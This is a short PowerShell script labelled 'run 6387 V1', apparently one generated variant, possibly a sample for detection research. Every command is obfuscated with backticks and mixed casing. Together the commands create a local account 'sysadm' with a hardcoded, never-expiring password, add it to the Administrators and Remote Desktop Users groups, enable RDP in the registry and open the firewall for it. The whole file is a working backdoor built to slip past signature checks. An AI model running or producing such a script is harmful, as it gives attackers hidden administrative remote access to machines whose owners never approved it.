# run 6387 V1
$pw = C`oNvErTtO-`se`CurestRINg 'Adm1n!strat0r' -AspLAIntEXT -fOrCe
ne`W-`L`ocA`LuSeR -NaMe 'sysadm' -PaSSword $pw -pAsSwOrDnEvErExPiReS -accoUNTNEveREXpIRES
AD`d-`Lo`CA`LgRoUpMeMbEr -GrOuP 'Administrators' -mEmBeR 'sysadm'
A`dd-`L`OCA`l`gR`OU`pmE`mBer -GRoup 'Remote Desktop Users' -mEmBer 'sysadm'
SeT-`ITem`pRoPeRT`Y -patH 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -NAMe FdEnyTsCoNNECtions -VaLuE 0
eNAbLe-netf`IRE`wallruLe -DiSpLaYgRoUp 'Remote Desktop'
